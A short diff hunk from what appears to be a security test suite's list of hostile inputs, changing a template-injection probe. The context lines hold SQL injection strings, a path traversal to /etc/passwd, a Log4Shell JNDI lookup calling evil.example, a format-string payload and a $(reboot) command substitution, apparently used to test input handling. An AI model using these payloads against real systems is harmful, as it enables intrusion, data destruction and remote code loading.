@@ -33,7 +33,7 @@ MARKUP = (
     "'; DROP TABLE orders; --",
     '" OR 1=1 --',
     "../../etc/passwd",
-    "{{7*7}}",
+    "{{7+7}}",
     "${jndi:ldap://evil.example/a}",
     "%s%s%n",
     "$(reboot)",
